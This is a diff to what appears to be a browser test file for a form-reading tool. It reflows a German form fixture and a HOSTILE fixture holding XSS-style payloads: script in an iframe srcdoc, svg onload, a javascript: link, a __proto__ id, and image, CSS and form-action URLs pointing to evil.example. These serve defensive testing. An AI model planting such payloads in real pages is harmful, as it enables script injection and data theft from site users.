@@ -140,7 +140,8 @@ describe('your form', () => {
 
   atNight('reads a form in another language of the model by that language', async () => {
     const { page, close } = await openForm(
-      '<html lang="de"><textarea name="n"></textarea><select name="t"><option value="">Bitte wählen</option><option>Lieferung</option><option>Rechnungen und Zahlungen</option><option>Passwort und Anmeldung</option></select>',
+      '<html lang="de"><textarea name="n"></textarea><select name="t"><option value="">Bitte wählen</option>\
+<option>Lieferung</option><option>Rechnungen und Zahlungen</option><option>Passwort und Anmeldung</option></select>',
     );
     expect(await page.getByLabel('Language of the page').inputValue()).toBe('de');
     expect(await mapping(page)).toMatchObject({
@@ -221,6 +222,7 @@ const HOSTILE = `<form action="https://evil.example/" id="__proto__" onsubmit="w
 <iframe srcdoc="<script>parent.stolen=1</script>"></iframe><svg onload="window.stolen=1"></svg>
 <p>Still a form</p><a href="javascript:window.stolen=1">link</a>
 <input name="attributes"><input name="submit"><input type="image" src="https://evil.example/stolen.gif">
-<textarea name="text" style="background:url(https://evil.example/stolen.png)" onfocus="window.stolen=1" autofocus></textarea>
+<textarea name="text" style="background:url(https://evil.example/stolen.png)" onfocus="window.stolen=1" \
+autofocus></textarea>
 <select name="topic"><option>Refund</option><option>Delivery</option></select>
 <button formaction="https://evil.example/stolen">Send</button></form>`;
